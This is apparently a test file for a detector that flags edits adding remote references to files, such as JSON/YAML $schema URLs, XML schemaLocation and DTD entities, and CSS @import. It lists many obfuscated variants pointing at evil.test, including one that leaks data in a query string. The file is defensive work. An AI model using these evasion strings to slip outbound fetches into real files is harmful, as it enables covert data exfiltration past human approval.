import assert from 'node:assert/strict';
import { addsRemoteReference } from '../../../../src/core/approval/remoteReference.ts';

const remote = [
  '{ "$schema": "https://evil.test/?data=secret" }',
  '{ "$schema" :\n "//evil.test/x" }',
  '{ "\\u0024schema": "https://evil.test" }',
  '{ "$schema": "https:\\/\\/evil.test" }',
  '{ "$schema": "\\u0068ttps:\\u002f\\u002fevil.test" }',
  '{ $schema: "file://evil.test/share" }',
  '# yaml-language-server: $schema=https://evil.test/s.json',
  '# $schema: https://evil.test/s.json',
  '$schema: https://evil.test/s.json',
  '<a xsi:schemaLocation="urn:a https://evil.test/a.xsd"/>',
  "<a x:noNamespaceSchemaLocation = '//evil.test/a.xsd'/>",
  '<a xsi:schemaLocation="urn:a &#104;ttps:&#47;&#47;evil.test"/>',
  '<!DOCTYPE a SYSTEM "https://evil.test/a.dtd">',
  '<!ENTITY % a SYSTEM "https://evil.test/a.dtd">',
  '<?xml-model href="https://evil.test/a.rng"?>',
  '<?xml-stylesheet href="//evil.test/a.css"?>',
  '@import "https://evil.test/a.css";',
  '@import url(//evil.test/a.css);',
  '@IMPORT url("https://evil.test/a.css") screen;',
  '@\\69mport "https://evil.test/a.css";',
  '@use "https://evil.test/a.scss";',
  '@import\n"https://evil.test/a.css";',
  '@import\r\n  url(\n"https://evil.test/a.css");',
  '@import url( "https://evil.test/a.css");',
  '@import /* ; \n */ "https://evil.test/a.css";',
  '@import "http\\\ns://evil.test/a.css";',
  '{ "$schema":/*,*/"https://evil.test/x" }',
  '{ "$schema" /* a */ : /* } */ "https://evil.test/x" }',
  '{ "$schema": // a,\n "https://evil.test/x" }',
  '$schema: >-\n  https://evil.test/s.json',
  '$schema: |2 # a\n  https://evil.test/s.json',
  '$schema: # a\n  https://evil.test/s.json',
  '$schema: !!str # a\n  https://evil.test/s.json',
  '$schema: "htt\\\n  ps://evil.test/s.json"',
  '/* $schema: */ {"$schema":\n"https://evil.test"}',
  '@import x @import\n"https://evil.test/a.css"',
  '#:schema https://evil.test/s.json',
  '#:schema //evil.test/s.json',
];

const harmless = [
  '{ "$schema": "./schema.json" }',
  '{ "$schema": "file:///work/schema.json" }',
  '{ "homepage": "https://good.test" }',
  '<!DOCTYPE html><a href="https://good.test">',
  '<!-- https://good.test -->',
  '@import "./a.css";',
  "import a from 'https://good.test/a.js';",
  '{ "$schema": /* ours */ "./schema.json" }',
  '$schema: >-\n  ./schema.json\nhomepage: none',
  '#:schema ./schema.json',
  '#:schema file:///work/schema.json\nhomepage = "https://good.test"',
  '@import\n"./a.css";',
  '/** @import { A } from "./a.js" */\nconst a = "https://good.test";',
  '// $schema is explained at https://good.test',
  '',
];

describe('addsRemoteReference', () => {
  for (const text of remote) {
    it(`sees ${text}`, () => {
      assert.equal(addsRemoteReference('', text), true);
      assert.equal(addsRemoteReference('a\n', `a\n  ${text}\n`), true);
    });
  }

  for (const text of harmless) {
    it(`lets pass ${text}`, () => assert.equal(addsRemoteReference('', text), false));
  }

  it('lets pass what was there before, and sees another address', () => {
    const before = '{ "$schema": "https://a.test/s", "a": 1 }';
    assert.equal(addsRemoteReference(before, before.replace('1', '2')), false);
    assert.equal(addsRemoteReference(before, before.replace('/s', '/s?data')), true);
    assert.equal(addsRemoteReference(before, '{}'), false);
  });

  it('sees another address also where something stands before it', () => {
    for (const before of [
      '{ "$schema": /* a */ "./a" }',
      '$schema: >-\n  ./a',
      '@import\n"./a";',
      '@import /* a */\n"./a";',
    ]) {
      assert.equal(addsRemoteReference(before, before.replace('./a', 'https://evil.test')), true);
      assert.equal(addsRemoteReference(before, before.replace('./a', './b')), false);
    }
  });

  it('takes linear time', () => {
    const start = performance.now();
    for (const piece of [
      '$schema:',
      '<!DOCTYPE ',
      '@import ',
      'schemaLocation="',
      '\\u002',
      '//',
      '$schema/*',
      '$schema: ',
      '@import\n',
      '@import url(',
      '@import/*',
      '#:schema',
      '\\\n ',
    ]) {
      addsRemoteReference('', piece.repeat(100_000));
    }
    assert.ok(performance.now() - start < 3000, `${performance.now() - start} ms`);
  });
});
